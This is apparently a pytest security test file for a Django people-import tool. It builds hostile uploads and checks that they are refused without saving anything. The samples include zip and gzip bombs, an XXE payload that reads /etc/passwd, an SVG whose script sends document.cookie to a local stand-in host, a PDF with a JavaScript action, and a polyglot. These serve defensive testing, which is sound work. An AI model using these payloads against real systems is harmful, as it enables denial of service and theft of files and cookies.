"""
Files made to do harm are refused within memory and time, and nothing of them is kept (T21, AV-11).

Each runs in a process of its own whose memory and time the system limits, on a database of its
own, so that a file that got through would show as a killed process or as rows.
"""

import json
import os
import resource
import struct
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest

from alongside.people.models import Person
from tests.fixtures.people import World

MEMORY = 700_000_000
SECONDS = 60
RUN = """
import sys, pathlib
import django
django.setup()
from alongside.people.importing.tables import Unreadable, open_table
path = pathlib.Path(sys.argv[1])
try:
    table = open_table(path)
    people = rejected = 0
    for row in table.rows():
        if type(row).__name__ == "Row" and any(row.cells.get(h) for h in ("First name",)):
            people += 1
        else:
            rejected += 1
    print("READ", people, rejected)
except Unreadable as refusal:
    print("REFUSED", refusal)
"""
HEADER = "ID,First name,Last name,DOB\n"


def run(path: Path) -> str:
    """The reader's answer, under limits of the system itself."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))
        resource.setrlimit(resource.RLIMIT_CPU, (SECONDS, SECONDS))
        resource.setrlimit(resource.RLIMIT_FSIZE, (1_000_000, 1_000_000))

    done = subprocess.run(
        [sys.executable, "-c", RUN, str(path)],
        capture_output=True, text=True, preexec_fn=limit, timeout=SECONDS * 2, check=False,
        env={**os.environ, "OPENBLAS_NUM_THREADS": "1"},
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-2000:]
    return done.stdout.strip()


def zip_bomb(path: Path) -> Path:
    """A workbook of a few kilobytes that would unpack to a gigabyte."""
    block = b"<row/>" * 1_000_000
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as file:
        for number in range(20):
            file.writestr(f"xl/worksheets/sheet{number}.xml", block)
    return path


def gzip_bomb(path: Path) -> Path:
    squeeze = zlib.compressobj(9, zlib.DEFLATED, 31)
    with path.open("wb") as file:
        for _ in range(50):
            file.write(squeeze.compress(b"\0" * 10_000_000))
        file.write(squeeze.flush())
    return path


def xxe(path: Path) -> Path:
    path.write_text(
        '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">'
        '<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
        "<a><name>&x;</name><laugh>&c;</laugh></a>"
    )
    return path


def svg(path: Path) -> Path:
    path.write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
        "<script>fetch('http://127.0.0.1:9/?'+document.cookie)</script></svg>"
    )
    return path


def polyglot(path: Path) -> Path:
    """A PNG in front, a zip at the end, a list in between."""
    png = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + b"\0" * 17
    path.write_bytes(png + HEADER.encode() + b"1,Eve,Il,1990-01-01\n" + b"PK\x05\x06" + b"\0" * 18)
    return path


def pdf(path: Path) -> Path:
    path.write_bytes(b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n")
    return path


def executable(path: Path) -> Path:
    path.write_bytes(b"\x7fELF\x02\x01\x01" + b"\0" * 2000)
    return path


def huge(path: Path) -> Path:
    """A little more than a hundred megabytes of ordinary rows."""
    line = b"1,Ana,Ortiz,1990-07-24\n" * 50_000
    with path.open("wb") as file:
        file.write(HEADER.encode())
        while file.tell() <= 100_000_000:
            file.write(line)
    return path


def one_endless_cell(path: Path) -> Path:
    with path.open("wb") as file:
        file.write(HEADER.encode() + b'1,"')
        for _ in range(90):
            file.write(b"x" * 1_000_000)
    return path


def no_header_but_a_line(path: Path) -> Path:
    path.write_bytes(b"," * 90_000_000)
    return path


HOSTILE: list[Callable[[Path], Path]] = [
    zip_bomb, gzip_bomb, xxe, svg, polyglot, pdf, executable, huge, one_endless_cell,
    no_header_but_a_line,
]  # fmt: skip


@pytest.mark.slow
@pytest.mark.parametrize("make", HOSTILE, ids=lambda make: make.__name__)
def test_t21_a_hostile_file_makes_nobody_within_memory_and_time(
    make: Callable[[Path], Path], tmp_path: Path
) -> None:
    answer = run(make(tmp_path / "list.csv"))
    if make in (one_endless_cell,):
        assert answer.startswith("READ 0 ")
    else:
        assert answer.startswith("REFUSED"), answer
    assert "root:" not in answer


@pytest.mark.slow
@pytest.mark.django_db
@pytest.mark.parametrize(
    "make", [zip_bomb, xxe, svg, polyglot, pdf, executable], ids=lambda make: make.__name__
)
def test_t21_the_command_refuses_it_and_keeps_nothing(
    make: Callable[[Path], Path],
    tmp_path: Path,
    world: World,
    capsys: pytest.CaptureFixture[str],
) -> None:
    from alongside.cli.tests.test_import_people import _run  # noqa: PLC0415 - the command's own

    people = Person.objects.scoped(world.system)
    before = people.count()
    assert _run(str(make(tmp_path / "list.csv")), "--json") == 2
    told = capsys.readouterr()
    assert "Nothing was written" in told.err
    assert told.out == ""
    assert people.count() == before


@pytest.mark.django_db
def test_t21_script_and_formula_in_a_good_list_stay_text(
    world: World, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from alongside.cli.tests.test_import_people import _run  # noqa: PLC0415 - the command's own

    path = tmp_path / "list.csv"
    path.write_text(HEADER + '7,"<script>alert(1)</script>","=1+1",1990-07-24\n')
    assert _run(str(path), "--json") == 0
    assert json.loads(capsys.readouterr().out)["added"] == 1
    found = Person.objects.scoped(world.system).get(external_id="7")
    assert (found.given_name, found.family_name) == ("<script>alert(1)</script>", "=1+1")
